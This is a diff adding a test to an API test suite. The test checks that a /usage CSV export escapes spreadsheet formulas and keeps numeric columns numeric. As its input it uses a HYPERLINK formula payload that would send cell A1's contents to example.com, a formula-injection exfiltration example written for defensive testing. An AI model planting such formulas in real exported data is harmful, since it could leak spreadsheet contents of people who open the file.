@@ -63,6 +63,17 @@ describe("GET /usage", () => {
     expect(rows).toHaveLength(3);
   });
 
+  test("as CSV has no cell that a spreadsheet would calculate, and its numbers are numbers", async () => {
+    const other = await newCaller(stage);
+    const model = '=HYPERLINK("https://example.com/?"&A1,"gpt-4o")';
+    const request = { model, messages: userMessage(unique()) };
+    const { body } = await other.send<Result>("POST", "/chat", request, { prefer: "respond-async" });
+    expect(await other.finished(body.id)).toMatchObject({ status: "failed", model });
+    const csv = await other.send<string>("GET", "/usage", undefined, { accept: "text/csv" });
+    const day = body.created_at.slice(0, 10);
+    expect(csv.body.split("\n")[1]).toBe(`${day},"'${model.replaceAll('"', '""')}",1,1,0,0,0,0,0,0,0,0,0.000000000`);
+  });
+
   test.each([
     ["?from=2026-13-01", "from"],
     ["?group_by=owner", "group_by[0]"],
